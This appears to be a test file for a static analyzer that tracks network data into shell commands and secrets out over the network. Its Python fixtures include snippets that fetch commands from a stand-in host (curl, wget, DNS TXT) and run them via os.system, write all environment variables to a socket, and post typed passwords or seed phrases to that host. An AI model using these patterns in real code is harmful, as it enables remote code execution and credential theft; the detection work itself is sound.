import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** What reaches a shell or leaves the machine, with what it carries of these. */
function flows(source: string, label: number): [string, boolean][] {
  return analyzePython(`import os\n${source}`).flow.flows.map(({ sink, labels }) => [
    sink,
    (labels & label) !== 0,
  ]);
}

const protocol = (base: string, body: string): string =>
  `import asyncio\nfrom twisted.internet import protocol\nfrom twisted.protocols import basic\nclass Own(${base}):\n  def ${body}\n`;

describe('what a library gives a protocol', () => {
  test.each([
    ['asyncio', 'asyncio.Protocol', 'data_received(self, data): os.system(data)'],
    ['datagrams', 'asyncio.DatagramProtocol', 'datagram_received(self, data, addr): os.system(data)'],
    ['twisted', 'protocol.Protocol', 'dataReceived(self, data): os.system(data)'],
    ['lines', 'basic.LineReceiver', 'lineReceived(self, line): os.system(line)'],
  ])('came over the network: %s', (_what, base, body) => {
    expect(flows(protocol(base, body), LABEL.network)).toEqual([['command', true]]);
  });

  test('also where a class of the source is between', () => {
    const between = 'class Base(asyncio.Protocol):\n  pass\n';
    const source = protocol('Base', 'data_received(self, data): os.system(data)');

    expect(flows(`import asyncio\n${between}${source}`, LABEL.network)).toEqual([['command', true]]);
  });

  test.each([
    ['another method', 'asyncio.Protocol', 'handle(self, data): os.system(data)'],
    ['another class', 'dict', 'data_received(self, data): os.system(data)'],
  ])('and not what somebody calls: %s', (_what, base, body) => {
    expect(flows(protocol(base, body), LABEL.network)).toEqual([['command', false]]);
  });

  test('is the connection that it writes to', () => {
    const body = 'connection_made(self, transport): transport.write(repr(dict(os.environ)))';
    expect(flows(protocol('asyncio.Protocol', body), LABEL.envAll)).toEqual([['network', true]]);
  });
});

const ASK = 'import urllib.request\n';
const ANSWER = 'urllib.request.urlopen("https://a.weir.test/c").read()';

describe('an answer', () => {
  test.each([
    [
      'through a pipe',
      `import multiprocessing\na, b = multiprocessing.Pipe()\na.send(${ANSWER})\nos.system(b.recv())\n`,
    ],
    [
      'through a pipe that another process writes to',
      `import multiprocessing\na, b = multiprocessing.Pipe()\ndef work(c):\n  c.send_bytes(${ANSWER})\nmultiprocessing.Process(target=work, args=(a,)).start()\nos.system(b.recv_bytes())\n`,
    ],
    [
      'to what is registered for it',
      'import selectors, socket\nsel = selectors.DefaultSelector()\ndef read(conn, mask):\n  os.system(conn.recv(9))\nsel.register(socket.create_connection(("a.weir.test", 9)), 1, read)\n',
    ],
    [
      'into a file in memory',
      'import ftplib, io\nf = ftplib.FTP("a.weir.test")\nb = io.BytesIO()\nf.retrbinary("RETR x", b.write)\nos.system(b.getvalue())\n',
    ],
    [
      'that a program prints',
      'import subprocess\nos.system(subprocess.getoutput("curl -s https://a.weir.test/c"))\n',
    ],
    [
      'that a program prints, of its words',
      'import subprocess\nos.system(subprocess.check_output(["wget", "-qO", "-", "https://a.weir.test/c"]))\n',
    ],
    [
      'that is kept under a name',
      'import subprocess\nos.system(subprocess.check_output(["nslookup", "-q=TXT", "c.weir.test"]).decode())\n',
    ],
  ])('reaches a shell: %s', (_how, source) => {
    expect(flows(ASK + source, LABEL.network)).toContainEqual(['command', true]);
  });

  test.each([
    [
      'nobody gave one',
      'import multiprocessing\na, b = multiprocessing.Pipe()\na.send("x")\nos.system(b.recv())\n',
    ],
    [
      'a file has it',
      'import subprocess\nos.system(subprocess.getoutput("curl -o x https://a.weir.test/c"))\n',
    ],
    ['it is an address', 'import subprocess\nos.system(subprocess.getoutput("host a.weir.test"))\n'],
  ])('does not where %s', (_why, source) => {
    expect(flows(ASK + source, LABEL.network)).not.toContainEqual(['command', true]);
  });

  test('comes from whom a program asks', () => {
    const asked = (line: string): readonly string[] =>
      analyzePython(`import subprocess\nx = subprocess.getoutput("${line}")\n`).flow.asked ?? [];

    expect(asked('curl -s https://a.weir.test/c | head -1')).toEqual(['https://a.weir.test']);
    expect(asked('dig +short TXT c.weir.test')).toEqual(['c.weir.test']);
    expect(asked('git log a.weir.test')).toEqual([]);
  });
});

describe('what a person types', () => {
  test.each([
    ['a password', 'input("Your password: ")', true],
    ['the words of a wallet', 'input("seed phrase? ")', true],
    ['what is not shown', 'getpass.getpass()', true],
    ['what is not shown, elsewhere', 'click.prompt("Key", hide_input=True)', true],
    ['a name', 'input("Your name: ")', false],
  ])('is a secret where it is asked for: %s', (_what, asked, expected) => {
    const source = `import getpass, click, requests\nrequests.post("https://a.weir.test", ${asked})\n`;
    expect(flows(source, LABEL.secretParam)).toEqual([['network', expected]]);
  });
});
